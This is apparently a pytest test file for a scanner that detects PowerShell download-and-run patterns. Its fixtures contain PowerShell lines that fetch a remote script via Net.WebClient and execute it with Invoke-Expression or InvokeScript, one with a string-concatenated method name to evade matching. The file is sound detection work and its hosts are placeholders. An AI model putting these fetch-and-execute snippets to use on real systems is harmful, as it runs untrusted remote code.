"""PowerShell web clients made with ``[T]::new()`` are followed like ``New-Object T``, and
``$ExecutionContext.InvokeCommand.InvokeScript`` runs its script block whichever argument it is (the
overload with ``$useLocalScope`` first). Hosts are ``.invalid``; nothing runs."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors


@pytest.mark.parametrize(
    "client",
    ["[System.Net.WebClient]::new()", "[Net.WebClient]::New()"],
)
def test_download_through_a_client_made_with_new(tmp_path: Path, client: str) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/Get-Rota.ps1": f"$web = {client}\n"
            "$web.Headers.Add('Accept', 'text/plain')\n"
            "$body = $web.DownloadString('https://rota.plugins.invalid/v3/init.ps1')\n"
            "Invoke-Expression $body\n"
        },
    )
    assert ("DOWNLOAD_AND_RUN", "scripts/Get-Rota.ps1", 4) in errors


def test_script_block_given_after_the_scope_flag(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/Sync.ps1": "$m = 'Download' + 'String'\n"
            "$src = [Net.WebClient]::new().$m('https://rota.plugins.invalid/ext.ps1')\n"
            "$sb = [scriptblock]::Create($src)\n"
            "$ExecutionContext.InvokeCommand.InvokeScript($true, $sb, $null, @())\n"
        },
    )
    assert ("DOWNLOAD_AND_RUN", "scripts/Sync.ps1", 4) in errors


def test_client_downloading_data_only_stays_clean(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/Get-Rota.ps1": "$web = [Net.WebClient]::new()\n"
            "$csv = $web.DownloadString('https://rota.plugins.invalid/week.csv') | ConvertFrom-Csv\n"
            "$sb = [scriptblock]::Create('Get-Date')\n"
            "$ExecutionContext.InvokeCommand.InvokeScript($false, $sb, $null, $null)\n"
            "$csv | Format-Table\n"
        },
    )
    assert not errors
